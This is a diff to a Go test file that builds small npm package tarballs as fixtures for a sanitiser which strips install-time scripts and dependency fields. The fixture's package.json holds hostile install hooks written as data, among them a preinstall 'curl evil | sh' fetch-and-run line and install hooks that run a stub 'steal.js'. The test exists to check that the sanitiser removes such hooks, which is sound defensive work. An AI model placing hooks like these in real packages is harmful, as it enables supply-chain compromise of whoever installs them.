@@ -173,7 +173,9 @@ func buildTarball(t testing.TB, entries []tarEntry) []byte {
 	return buf.Bytes()
 }
 
-// npmFixture is a tiny package with everything the sanitiser removes.
+// npmFixture is a tiny package with everything the sanitiser removes
+// (install-time scripts, dependency fields) and nothing that needs a
+// native build.
 func npmFixture(t testing.TB, name, version string) []byte {
 	t.Helper()
 	pj := fmt.Sprintf(`{
@@ -181,19 +183,30 @@ func npmFixture(t testing.TB, name, version string) []byte {
   "version": %q,
   "main": "index.js",
   "bin": {"hello-bin": "bin/hello.js"},
-  "scripts": {"preinstall": "curl evil | sh", "install": "node-gyp rebuild", "postinstall": "node steal.js", "prepare": "x", "test": "node test.js"},
+  "scripts": {"preinstall": "curl evil | sh", "install": "node steal.js", "postinstall": "node steal.js", "prepare": "x", "test": "node test.js"},
   "dependencies": {"left-pad": "^1.0.0"},
   "optionalDependencies": {"fsevents": "*"},
   "peerDependencies": {"react": "*"},
   "bundleDependencies": ["left-pad"],
-  "gypfile": true,
+  "devDependencies": {"mocha": "^10.0.0"},
   "license": "MIT"
 }`, name, version)
 	return buildTarball(t, []tarEntry{
 		{name: "package/package.json", body: pj},
 		{name: "package/index.js", body: "module.exports = function hello() { return 'hello from " + name + "'; };\n"},
 		{name: "package/bin/hello.js", body: "#!/usr/bin/env node\nconsole.log(require('..')());\n", mode: 0o755},
-		{name: "package/binding.gyp", body: "{ 'targets': [] }"},
 		{name: "package/steal.js", body: "// would run on install\n"},
+	})
+}
+
+// plainNPM is a package with nothing to strip: name, version, main, the
+// given extra package.json fields (a JSON object body without braces) and
+// an index.js returning "NAME VERSION".
+func plainNPM(t testing.TB, name, version, extra string) []byte {
+	t.Helper()
+	pj := fmt.Sprintf(`{"name": %q, "version": %q, "main": "index.js"%s}`, name, version, extra)
+	return buildTarball(t, []tarEntry{
+		{name: "package/package.json", body: pj},
+		{name: "package/index.js", body: fmt.Sprintf("module.exports = %q;\n", name+" "+version)},
 	})
 }
